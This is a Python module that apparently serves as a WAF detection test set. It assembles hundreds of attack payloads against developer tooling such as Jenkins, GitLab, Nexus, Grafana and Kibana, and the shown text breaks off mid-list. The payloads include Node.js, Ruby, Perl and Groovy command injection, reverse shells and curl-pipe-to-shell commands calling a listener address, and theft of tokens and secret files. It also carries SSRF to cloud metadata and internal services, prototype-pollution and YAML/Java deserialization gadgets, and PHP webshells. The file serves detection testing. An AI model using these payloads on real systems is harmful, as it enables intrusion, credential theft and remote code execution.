"""Blind set "twohundredtwentysixth": generic (Node.js, SSRF, prototype pollution, Ruby, Perl, PHP data: URIs),
Java and server-side template injection aimed at the tools software teams run for themselves, with benign requests
that carry the same words innocently.

The angle: DevOps and developer tooling, recalled from memory. CI/CD servers and their plugins (Jenkins and its
script console, pipeline sandbox and remoting CLI, GitLab CI, TeamCity, Bamboo, Drone, Argo CD, Rundeck, Ansible
AWX), code hosting and review (GitLab, Gitea, Gogs, Gerrit, Bitbucket Server), artifact and package registries
(Nexus and its script and EL-validated REST APIs, Artifactory, Harbor, Verdaccio), issue trackers and wikis (Jira,
Confluence, Redmine, MediaWiki), monitoring and log dashboards (Grafana data-source proxy, Kibana Timelion,
Prometheus, Zabbix, Nagios), SonarQube, ChatOps bots and webhook receivers. Each payload is written with the tool's
own parameters, endpoints and quirks, and each still reaches its family's real target; the comment above each group
names the family, the tool and the target (database, shell, browser, interpreter, template engine, product).

Families (sub = detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, java-deserialization-gadgets, log4shell,
    expression-language, polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson), class-loading,
    jsp-upload
  ssti: ssti-jinja2, ssti-twig, ssti-freemarker, ssti-velocity, ssti-thymeleaf, ssti-erb, ssti-smarty,
    ssti-handlebars, ssti-pug, ssti-mako, ssti-tornado, ssti-nunjucks, ssti-ejs, ssti-pebble, ssti-razor,
    ssti-go-templates, ssti-liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path, the admin import's upload), under parameter names the tool itself uses (url,
webhook_url, import_url, script, value, template, subject...); once the way a WAF regression suite sends it
(placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) under arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole documents go as the body they are:
Grafana/Nexus/Spring Cloud Gateway/fastjson/Jackson JSON as the JSON body, XStream and XMLDecoder XML as the XML
body, Ruby and SnakeYAML gadgets as a YAML body; qs-style bracket pairs (prototype pollution, EJS view options,
Spring Data binding) as raw `name=value`; raw Java serialization bytes percent-encoded in the query or a form body;
JSP file names as uploads that carry a JSP shell. Payloads that cannot ride a header, cookie or path fall back to
the JSON body, form or query.

Authorship and independence: written for this repository from general knowledge of each attack family, of the
tools named above and of their published advisories as remembered, and from the detection titles alone; no WAF
rule, engine source, ruleset regression test or public payload list was read. Measured once on unchanged code;
deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredtwentysixth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
YB = ("yaml-body", "rs-yaml-body")
XB = ("xml", "rs-xml")
UP = ("multipart-filename", "rs-multipart-filename")
KVQ = ("query", "rs-raw-body")
KVF = ("form", "rs-param-name")
KVP = ("param-name", "rs-raw-body")
BYTES = ("form", "rs-raw-body")
BYTES_Q = ("query", "rs-query")

C2 = "203.0.113.7"   # the tester's listener


def _b64(text: str | bytes) -> str:
    raw = text.encode() if isinstance(text, str) else text
    return base64.b64encode(raw).decode()


def _jstream(*classes: tuple[str, int]) -> bytes:
    """A Java serialization stream (STREAM_MAGIC, version 5) whose objects are the given classes' descriptors."""
    out = b"\xac\xed\x00\x05"
    for name, suid in classes:
        cls = name.encode()
        out += (b"\x73\x72" + len(cls).to_bytes(2, "big") + cls + suid.to_bytes(8, "big", signed=True)
                + b"\x02\x00\x00\x78\x70")
    return out


def _hex(raw: bytes) -> str:
    return raw.hex()


def _pct(raw: bytes) -> str:
    return "".join(f"%{b:02X}" for b in raw)


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


def _gz64(raw: bytes) -> str:
    return _b64(gzip.compress(raw, mtime=0))


def _classfile(*utf8: str) -> str:
    """The start of a class file (CAFEBABE, Java 8) with the given CONSTANT_Utf8 entries, base64."""
    pool = b"".join(b"\x01" + len(s).to_bytes(2, "big") + s.encode() for s in utf8)
    return _b64(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + (len(utf8) + 1).to_bytes(2, "big") + pool)


PQ = ("java.util.PriorityQueue", -7720805057305804111)
HM = ("java.util.HashMap", 362498820763181265)
HS = ("java.util.HashSet", -5024744406713321676)
AIH = ("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397)
BAVE = ("javax.management.BadAttributeValueExpException", -3105272988410493376)
CC_LAZY = ("org.apache.commons.collections.map.LazyMap", 7990956402564206740)
CC_CHAIN = ("org.apache.commons.collections.functors.ChainedTransformer", 3514945074733160196)
CC_INV = ("org.apache.commons.collections.functors.InvokerTransformer", -8653385846894047688)
CC_CONST = ("org.apache.commons.collections.functors.ConstantTransformer", -4807476919587627766)
CC_TME = ("org.apache.commons.collections.keyvalue.TiedMapEntry", -8453869361373831205)
CC4_TC = ("org.apache.commons.collections4.comparators.TransformingComparator", -3456940356043606220)
CC4_INST = ("org.apache.commons.collections4.functors.InstantiateTransformer", 3786388740793356347)
TPL = ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707)
TRAX = ("com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter", 1)
BEAN_CMP = ("org.apache.commons.beanutils.BeanComparator", -2044202215314119608)
SPRING_OF = ("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
             -3059543452128213090)
SPRING_MIP = ("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", 1)
SPRING_JTA = ("org.springframework.transaction.jta.JtaTransactionManager", 4720255569299536580)
GROOVY_CC = ("org.codehaus.groovy.runtime.ConvertedClosure", 1)
GROOVY_MC = ("org.codehaus.groovy.runtime.MethodClosure", 1)
C3P0 = ("com.mchange.v2.c3p0.PoolBackedDataSource", -2440162180985815128)
C3P0_REF = ("com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", -4217326011087213330)
ROME_OB = ("com.sun.syndication.feed.impl.ObjectBean", 1)
ROME_TS = ("com.sun.syndication.feed.impl.ToStringBean", 1)
HIB_TV = ("org.hibernate.engine.spi.TypedValue", -1460017143640059620)
HIB_TUP = ("org.hibernate.tuple.component.PojoComponentTuplizer", 1)
URLDNS = ("java.net.URL", -7627629688361524110)
REMOTING_CAP = ("hudson.remoting.Capability", 1)

# ================================================================================================================
# generic
# ================================================================================================================

# nodejs-injection. Target: the Node.js interpreter behind ChatOps bots (Hubot `eval` scripts), Kibana (Timelion
# expressions), Node-RED function nodes, Backstage scaffolder actions, Verdaccio plugins and webhook receivers
NODE_INJECTION: list[Entry] = [
    # Hubot script that evals `hubot calc <expr>`: the expression is whatever the channel types
    "require('child_process').execSync('cat /opt/hubot/.env').toString()",
    "process.mainModule.require('child_process').exec('curl -s http://" + C2 + "/h.sh | sh')",
    "global.process.mainModule.constructor._load('child_process').execSync('id').toString()",
    # a string-concatenated eval in a webhook receiver: break out of the quoted field
    "';require('child_process').exec('nc " + C2 + " 4444 -e /bin/sh');//",
    "\"+require('child_process').execSync('whoami')+\"",
    "1;process.mainModule.require('child_process').execSync('printenv GITLAB_TOKEN')",
    # vm / vm2 sandbox of a bot or the Backstage scaffolder: climb out through the constructor chain
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "[].constructor.constructor('return process.env.NPM_TOKEN')()",
    "Reflect.construct(Function,['return process'])().mainModule.require('child_process').execSync('uname -a')",
    "new Function('return this.process.mainModule.require(\"child_process\").execSync(\"id\").toString()')()",
    "eval(Buffer.from('" + _b64("require('child_process').execSync('id').toString()") + "','base64').toString())",
    "import('child_process').then(m=>m.execSync('cat /etc/passwd'))",
    # Node-RED function node body: the flow's credentials file and a shell
    "msg.payload=this.constructor.constructor('return process')().mainModule.require('fs')"
    ".readFileSync('/data/flows_cred.json','utf8');return msg;",
    "msg.payload=global.process.mainModule.require('child_process').execSync(msg.cmd).toString();return msg;",
    # Verdaccio plugin config evaluated as JS: steal the registry's htpasswd and npm token
    "require('fs').readFileSync('/verdaccio/storage/htpasswd','utf8')",
    "require('http').get('http://" + C2 + "/t?'+process.env.NPM_TOKEN)",
    # Express server-side JS injection in a dashboard's `filter` parameter
    "res.end(require('fs').readdirSync('/').toString())",
    "require('child_process').spawn('/bin/sh',['-c','bash -i >& /dev/tcp/" + C2 + "/9001 0>&1'])",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],"
    "stdio:[{type:'pipe',readable:true,writable:false}]})",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().exit()')",
    "setInterval(function(){require('child_process').exec('curl " + C2 + "/beacon')},60000)",
    "Object.constructor('return process.mainModule.require(\"child_process\").execSync(\"env\")')()",
]

# nodejs-dos. Target: the Node.js event loop and heap of the same bots, receivers and registries (regexes compiled
# from user input, code evaluated from chat, body parsers)
NODE_DOS: list[Entry] = [
    # Hubot eval: block the single thread for good
    "while(true){}",
    "for(;;){}",
    "(function f(){f()})()",
    "process.nextTick(function loop(){process.nextTick(loop)})",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    "async function spin(){for(;;)await null}spin()",
    # huge allocations: out-of-memory crash of the bot or the Verdaccio worker
    "Buffer.alloc(0x7fffffff)",
    "new Array(1e9).fill('x').join('')",
    "'A'.repeat(2**30)",
    "new Uint8Array(4294967295)",
    "let a=[];for(;;)a.push(new Array(1e6).fill(1))",
    "require('crypto').pbkdf2Sync('x','y',1e10,64,'sha512')",
    "JSON.parse('['.repeat(1e6)+']'.repeat(1e6))",
    # a bot that compiles the user's pattern (`hubot grep <regex>`): catastrophic backtracking
    "new RegExp('^(a+)+$').test('a'.repeat(64)+'!')",
    "/(x+x+)+y/.test('x'.repeat(10000))",
    "(.*a){30}",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "^(\\w+\\s?)*$",
    # a deeply nested JSON webhook body: the receiver's recursive merge overflows the stack
    ("{\"a\":" * 2000 + "1" + "}" * 2000, *JB),
]

# ssrf-cloud-metadata. Target: the cloud instance metadata service, reached through a tool that fetches URLs for
# its users (Grafana data-source proxy, Jenkins HTTP Request plugin, GitLab import by URL, Gitea migrations, Nexus
# and Artifactory remote repositories, Harbor replication endpoints, Jira gadget makeRequest, webhooks)
SSRF_METADATA: list[Entry] = [
    # AWS IMDSv1 from a CI runner: the role credentials the runner deploys with
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/gitlab-runner-role",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://169.254.170.2/v2/credentials/6f1d8d2c-0c2b-4b9e-9f3e-1a2b3c4d5e6f",
    # the same address written so a host blocklist misses it
    "http://2852039166/latest/meta-data/iam/security-credentials/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/user-data",
    "http://169.254.169.254.nip.io/latest/meta-data/iam/info",
    "http://instance-data/latest/meta-data/hostname",
    # IPv6 forms: the AWS IPv6 endpoint and IPv4-mapped addresses
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/api/token",
    # Jira gadget proxy (/plugins/servlet/gadgets/makeRequest?url=): the userinfo trick past the host check
    "https://jira.corp.example.com@169.254.169.254/latest/meta-data/iam/security-credentials/",
    # GCP (Grafana data source with a custom Metadata-Flavor header, or the old v1beta1 path that needs none)
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/attributes/kube-env?alt=text",
    "http://169.254.169.254/computeMetadata/v1/project/attributes/ssh-keys?alt=text",
    # Azure IMDS and managed identity token
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net",
    # Alibaba Cloud, DigitalOcean, Oracle Cloud, OpenStack
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    # Grafana: a Prometheus data source created through the API, then read through /api/datasources/proxy/
    ("{\"name\":\"prom-eu\",\"type\":\"prometheus\",\"access\":\"proxy\","
     "\"url\":\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"}", *JB),
    # Gitea/Gogs repository migration and GitLab project import by URL
    ("{\"clone_addr\":\"http://169.254.169.254/latest/meta-data/\",\"repo_name\":\"meta\",\"uid\":1}", *JB),
]

# ssrf-internal-ip. Target: services on the tool's own network (Jenkins script console, Docker and kubelet APIs,
# Consul, etcd, Vault, Redis, Memcached, Prometheus, Elasticsearch) and local files, through the same URL fetchers
SSRF_INTERNAL: list[Entry] = [
    # SonarQube/Gitea/Drone webhook URL pointed back inside
    "http://127.0.0.1:8080/scriptText?script=println(%22id%22.execute().text)",
    "http://localhost:2375/containers/json?all=1",
    "http://172.17.0.1:2375/images/json",
    "http://2130706433:9200/_cat/indices?v",
    "http://0x7f000001:8500/v1/agent/self",
    "http://0177.0.0.1:8200/v1/sys/seal-status",
    "http://127.1:9090/api/v1/status/config",
    "http://0:10250/pods",
    "http://[::1]:3000/api/admin/settings",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:8081/service/rest/v1/script",
    "http://[::]:15672/api/definitions",
    "http://localtest.me:8080/manage/credentials/store/system/domain/_/",
    "http://127.0.0.1.nip.io:8081/service/rest/v1/security/users",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:2379/v2/keys/?recursive=true",
    "http://kubernetes.default.svc/api/v1/namespaces/argocd/secrets",
    "http://10.0.0.1:2379/v3/kv/range",
    # file:// through a fetcher that takes any scheme (Harbor endpoint test, the HTTP Request plugin)
    "file:///etc/passwd",
    "file:///var/jenkins_home/secrets/master.key",
    "file:///proc/self/environ",
    "file://localhost/etc/gitlab/gitlab-secrets.json",
    # gopher:// and dict:// to the CI cache Redis and Memcached
    "gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20bash%20-c%20%27bash%20-i"
    "%20%3E%26%20%2Fdev%2Ftcp%2F" + C2 + "%2F4444%200%3E%261%27%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool"
    "%2Fcron%2F%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A",
    "gopher://localhost:11211/_stats%0D%0A",
    "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/lib/gitlab/",
    "dict://localhost:11211/stats",
    "gopher://127.0.0.1:2375/_POST%20/containers/create%20HTTP/1.1%0D%0AHost:%20x%0D%0A"
    "Content-Type:%20application/json%0D%0AContent-Length:%2066%0D%0A%0D%0A"
    "%7B%22Image%22:%22alpine%22,%22Cmd%22:[%22cat%22,%22/host/etc/shadow%22],%22Binds%22:[%22/:/host%22]%7D",
]

# javascript-prototype-pollution. Target: Node.js services that merge request data into objects (qs query parser,
# lodash merge/set in webhook receivers and bots, Kibana's Timelion, EJS/pug/handlebars rendering gadgets)
PROTO: list[Entry] = [
    # qs-parsed query or form of an Express bot endpoint
    ("__proto__[isAdmin]=true", *KVQ),
    ("__proto__[role]=admin&__proto__[isAdmin]=1", *KVF),
    ("constructor[prototype][isAdmin]=true", *KVP),
    ("__proto__.admin=true", *KVQ),
    ("__proto__[json spaces]=10", *KVF),
    ("__proto__[exposedHeaders]=X-Polluted", *KVP),
    # EJS render gadget: outputFunctionName reaches the compiled template source
    ("__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s", *KVQ),
    # child_process.spawn gadget: shell/argv0/NODE_OPTIONS from the prototype
    ("__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require('child_process').execSync('id')"
     ".toString())//&__proto__[NODE_OPTIONS]=--require /proc/self/cmdline", *KVF),
    # lodash.template gadget: sourceURL is pasted into the Function body
    ("__proto__[sourceURL]=\nreturn process.mainModule.require('child_process').execSync('id')//", *KVP),
    # pug AST gadget: a polluted block becomes compiled code
    ("__proto__[block][type]=Text&__proto__[block][line]=process.mainModule.require('child_process')"
     ".execSync('touch /tmp/pp')", *KVQ),
    # JSON bodies: lodash.merge / Object.assign-deep in a webhook receiver
    ("{\"__proto__\":{\"isAdmin\":true}}", *JB),
    ("{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}", *JB),
    ("{\"settings\":{\"__proto__\":{\"outputFunctionName\":\"_x;global.process.mainModule.require("
     "'child_process').exec('curl " + C2 + "/e|sh');var _y\"}}}", *JB),
    ("{\"__proto__\":{\"shell\":\"node\",\"NODE_OPTIONS\":\"--inspect=0.0.0.0:9229\"}}", *JB),
    ("{\"__proto__\":{\"env\":{\"EVIL\":\"console.log(require('child_process').execSync('id').toString())//\"},"
     "\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}", *JB),
    ("{\"path\":\"__proto__.isAdmin\",\"value\":true}", *JB),
    ("{\"path\":\"constructor.prototype.allowAll\",\"value\":true}", *JB),
    ("{\"__proto__\":{\"type\":\"Program\",\"body\":[{\"type\":\"MustacheStatement\",\"path\":0,\"params\":"
     "[{\"type\":\"NumberLiteral\",\"value\":\"process.mainModule.require('child_process').execSync('id')\"}],"
     "\"loc\":{\"start\":0,\"end\":0}}]}}", *JB),
    # Kibana Timelion (CVE-2019-7609): the expression pollutes process env for the next spawned child
    ".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i>& "
    "/dev/tcp/" + C2 + "/6666 0>&1\\'\");process.exit()//')"
    ".props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')",
    ".es(*).props(label.__proto__.isAdmin=true)",
]

# ruby-injection. Target: the Ruby interpreter behind GitLab and Redmine (Rails), Chef and Puppet templates,
# Fluentd plugins and a Lita ChatOps bot; Kernel#open pipes, backticks, eval, ERB and YAML.load gadgets
RUBY: list[Entry] = [
    # Redmine/GitLab code passing a user path to Kernel#open: a leading pipe runs a command
    "|cat /home/git/gitlab/config/secrets.yml",
    "|curl -s http://" + C2 + "/r.sh | bash",
    "open('|cat /etc/gitlab/gitlab-secrets.json').read",
    # Lita bot `eval` handler and Chef attribute strings that get instance_eval'd
    "`cat /etc/chef/client.pem`",
    "%x(cat /var/opt/gitlab/gitlab-rails/etc/secrets.yml)",
    "system('curl http://" + C2 + "/$(hostname)')",
    "eval(\"`id`\")",
    "Kernel.exec('/bin/sh -c id')",
    "IO.popen('id').read",
    "require 'open3'; Open3.capture2('uname -a')[0]",
    "Object.const_get(:Kernel).system('id')",
    "send(:system, 'cat /etc/passwd')",
    "__send__(:eval, 'File.read(\"/etc/redmine/database.yml\")')",
    "Process.spawn('nc -e /bin/sh " + C2 + " 4444')",
    # string interpolation in a Fluentd record_transformer with enable_ruby
    "#{`id`}",
    "#{%x|env|}",
    "#{File.read('/fluentd/etc/fluent.conf')}",
    # ERB evaluated by a Puppet/Chef template from a user-editable attribute
    "<%= %x(cat /etc/puppetlabs/puppet/ssl/private_keys/*.pem) %>",
    # YAML.load of a webhook or import body (Rails, Psych < 4): the universal Gem gadget
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: id\n         method_id: :resolve\n", *YB),
    # the old Rails YAML-in-params route set gadget (CVE-2013-0156 shape)
    ("--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
     "? ! \"foo; system('id'); @foo\"\n: !ruby/struct\n  defaults:\n    :action: create\n"
     "    :controller: foos\n", *YB),
    ("--- !ruby/object:Gem::Installer\ni: x\n", *YB),
]

# perl-injection. Target: the Perl interpreter behind gitweb, Bugzilla, TWiki/Foswiki, AWStats, Webmin, Nagios
# plugins and Munin; two-argument open pipes, system/exec, eval and qx
PERL: list[Entry] = [
    # AWStats configdir / Webmin password_change `old` field: two-argument open with a pipe
    "|echo;cat /etc/passwd;echo|",
    "test|cat /etc/webmin/miniserv.users",
    "|/bin/sh -c 'id'|",
    "/etc/nagios/htpasswd.users|",
    "cat /etc/bugzilla/localconfig |",
    # a Perl eval in a Foswiki plugin or a Nagios check wrapper
    "system('id');",
    "qx{cat /etc/bugzilla/localconfig}",
    "qx(id)",
    "eval \"system('uname -a')\"",
    "exec '/bin/sh', '-c', 'id';",
    "open(F, \"|/bin/sh -c id\"); close F;",
    "open(my $fh, 'cat /etc/shadow |'); print <$fh>;",
    "@{[ system('id') ]}",
    "${\\ system('cat /etc/passwd')}",
    "warn qx(uname -a);",
    "sub { system 'id' }->();",
    "use Socket;$i=\"" + C2 + "\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
    "do '/tmp/upload.pl';",
    "open(STDOUT, '|mail tester\\@example.org'); print `cat /etc/munin/munin.conf`;",
]

# php-data-scheme. Target: PHP's include/fopen wrappers in PHP tools (Zabbix frontend, Nagios XI, MediaWiki,
# Cacti, phpIPAM) when allow_url_include is on: a data: URI is the included PHP code
SHELL_GET = "<?php system($_GET['cmd']); ?>"
SHELL_POST = "<?php eval($_POST['z']); ?>"
SHELL_FILE = "<?php file_put_contents('zabbix/s.php','<?php passthru($_REQUEST[0]);'); ?>"
SHELL_CONF = "<?php readfile('/etc/zabbix/web/zabbix.conf.php'); ?>"
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + _b64(SHELL_GET),
    "data://text/plain;base64," + _b64(SHELL_POST),
    "data://text/plain;base64," + _b64(SHELL_FILE),
    "data://text/plain;base64," + _b64(SHELL_CONF),
    "data://text/plain," + SHELL_GET,
    "data:text/plain,<?php phpinfo(); ?>",
    "data:,<?php echo shell_exec('id'); ?>",
    "data://,<?=`$_GET[0]`?>",
    "data:;base64," + _b64("<?php passthru('cat /usr/local/nagiosxi/html/config.inc.php'); ?>"),
    "DaTa://text/plain;base64," + _b64("<?php system('id'); ?>"),
    "data://image/jpeg;base64," + _b64("<?php system($_REQUEST['c']); __halt_compiler();"),
    "data:application/x-httpd-php;base64," + _b64("<?php echo file_get_contents('LocalSettings.php'); ?>"),
    "data://text/plain;charset=utf-8;base64," + _b64("<?php $s=fsockopen('" + C2 + "',4444);"
                                                     "exec('/bin/sh -i <&3 >&3 2>&3'); ?>"),
    "data:text/html;base64," + _b64("<?php include('/var/www/cacti/include/config.php'); print_r($database_"
                                    "password); ?>"),
    "php://filter/convert.base64-decode/resource=data://text/plain;base64," + _b64(_b64(SHELL_GET)),
    "data://text/plain;base64," + _b64("<?php $c=$_SERVER['HTTP_X_C'];echo `$c`; ?>").rstrip("="),
    "data:text/plain;base64," + urllib.parse.quote(_b64("<?php system('wget " + C2 + "/m -O /tmp/m'); ?>")),
]

# ================================================================================================================
# java
# ================================================================================================================

# java-class-names. Target: the JVM behind Jenkins (script console, pipeline libraries), Nexus (Groovy script API),
# Jira/Confluence (ScriptRunner), Rundeck and TeamCity, named through the dangerous JDK and product classes
JAVA_CLASSES: list[Entry] = [
    # Jenkins /script console (Groovy): decrypt and dump the stored credentials
    "com.cloudbees.plugins.credentials.SystemCredentialsProvider.getInstance().getCredentials()"
    ".each{println(it.id+':'+it.password?.getPlainText())}",
    "hudson.util.Secret.decrypt('{AQAAABAAAAAQ1/JHKggxIlBcuVqegoa2AdyVaNvjWIFk430/vI4jEBM=}')",
    "println(jenkins.model.Jenkins.instance.getExtensionList('com.cloudbees.plugins.credentials"
    ".SystemCredentialsProvider')[0].getCredentials())",
    "Class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')",
    "new javax.script.ScriptEngineManager().getEngineByName('nashorn')"
    ".eval('java.lang.Runtime.getRuntime().exec(\"id\")')",
    "java.lang.Thread.currentThread().getContextClassLoader().loadClass('java.lang.ProcessBuilder')",
    "java.lang.System.getenv().each{k,v->println k+'='+v}",
    "java.lang.System.setSecurityManager(null)",
    "def f=Class.forName('sun.misc.Unsafe').getDeclaredField('theUnsafe');f.setAccessible(true);f.get(null)",
    "java.lang.reflect.Method m=Class.forName('java.lang.Runtime').getMethod('exec',String.class)",
    "new java.io.FileInputStream('/var/atlassian/application-data/jira/dbconfig.xml').text",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get('/nexus-data/admin.password'))",
    "new javax.naming.InitialContext().lookup('ldap://" + C2 + ":1389/TeamCity')",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass('java.lang.Runtime')",
    "org.codehaus.groovy.runtime.ProcessGroovyMethods.execute('cat /etc/rundeck/realm.properties').text",
    "jdk.jshell.JShell.create().eval('Runtime.getRuntime().exec(\"id\")')",
    "new groovy.lang.GroovyShell().evaluate(\"'cat /opt/teamcity/conf/server.xml'.execute().text\")",
]

# java-process-spawn. Target: the operating system shell, through Runtime.exec/ProcessBuilder/Groovy execute() in
# Jenkins (script console, checkScript sandbox bypasses), Nexus script API, Rundeck, Gradle build scripts
JAVA_SPAWN: list[Entry] = [
    "\"cat /var/jenkins_home/credentials.xml\".execute().text",
    "['bash','-c','curl -s http://" + C2 + "/j.sh|bash'].execute()",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/" + C2 + "/4444 0>&1\"})",
    "new ProcessBuilder(\"cmd.exe\",\"/c\",\"type C:\\\\BuildAgent\\\\conf\\\\buildAgent.properties\").start()",
    "def proc = 'id'.execute(); proc.waitFor(); println proc.in.text",
    "println new ProcessBuilder(['sh','-c','env']).redirectErrorStream(true).start().text",
    "Runtime.getRuntime().exec(\"powershell -nop -w hidden -c iwr http://" + C2 + "/a.ps1|iex\")",
    # Jenkins checkScript (CVE-2018-1000861 chain): a constructor runs at compile time
    "public class x { public x(){ \"curl http://" + C2 + "/$(whoami)\".execute() } }",
    "@groovy.transform.ASTTest(value={ assert java.lang.Runtime.getRuntime().exec('touch /tmp/jenkins') })\ndef x",
    # Nexus Repository 3 script API (POST /service/rest/v1/script)
    ("{\"name\":\"probe\",\"type\":\"groovy\",\"content\":\"return 'id'.execute().text\"}", *JB),
    "ProcessBuilder pb = new ProcessBuilder('sh','-c','cat /etc/rundeck/framework.properties'); pb.start()",
    "Runtime.runtime.exec('nslookup jenkins.oast.example')",
    "'wget -O /tmp/agent http://" + C2 + "/agent'.execute().waitFor()",
    "java.lang.Runtime.getRuntime().exec(\"sh -c $@|sh . echo id\")",
    "new java.lang.ProcessBuilder(new java.lang.String[]{\"id\"}).start()",
    # Gradle init script dropped into a CI job
    "exec { commandLine 'sh', '-c', 'curl http://" + C2 + "/g?k=$(cat ~/.gradle/gradle.properties|base64 -w0)' }",
    "java.lang.Runtime.getRuntime().exec('calc.exe')",
    "String[] c={\"/bin/sh\",\"-c\",\"id\"};Process p=Runtime.getRuntime().exec(c);",
]

# java-serialization. Target: Java deserialization endpoints of the tools (the Jenkins remoting CLI, Bamboo and
# TeamCity agents, JMX/RMI of Nexus and Artifactory, JSF view state in older admin consoles): the stream magic
# (ac ed 00 05) raw, percent-encoded, hex and base64 (rO0AB), gzip-base64 (H4sI)
S_PQ = _jstream(PQ, CC4_TC)
S_HM = _jstream(HM, URLDNS)
S_HS = _jstream(HS, CC_TME)
S_BAVE = _jstream(BAVE, CC_TME, CC_LAZY)
S_AIH = _jstream(AIH, CC_LAZY)
JAVA_SER: list[Entry] = [
    _b64(S_PQ),
    _b64(S_HM),
    _b64(S_HS),
    _b64(_jstream(REMOTING_CAP)),
    "<===[JENKINS REMOTING CAPACITY]===>" + _b64(_jstream(REMOTING_CAP)),
    _hex(S_PQ),
    _hex(S_BAVE),
    _pct(S_HM),
    _pct(S_AIH),
    (_latin(S_HM), *BYTES),
    (_latin(S_PQ), *BYTES_Q),
    (_latin(S_BAVE), *BYTES),
    _gz64(S_HS),
    _gz64(S_AIH),
    base64.urlsafe_b64encode(S_BAVE).decode(),
    "rO0ABXQAJ2N1cmwgaHR0cDovLzIwMy4wLjExMy43L3NlciB8IHNo",
    "%AC%ED%00%05t%00%02id",
]

# java-deserialization-gadgets. Target: the same endpoints, with the streams carrying the known gadget chains
# (commons-collections 3/4, Spring, Groovy, JDK 7u21, c3p0, ROME, Hibernate, BeanUtils) and their class names
JAVA_GADGETS: list[Entry] = [
    _b64(_jstream(AIH, CC_LAZY, CC_CHAIN, CC_CONST, CC_INV)),
    _b64(_jstream(BAVE, CC_TME, CC_LAZY, CC_CHAIN, CC_INV)),
    _b64(_jstream(PQ, CC4_TC, CC4_INST, TRAX, TPL)),
    _hex(_jstream(HS, CC_TME, CC_LAZY, CC_INV)),
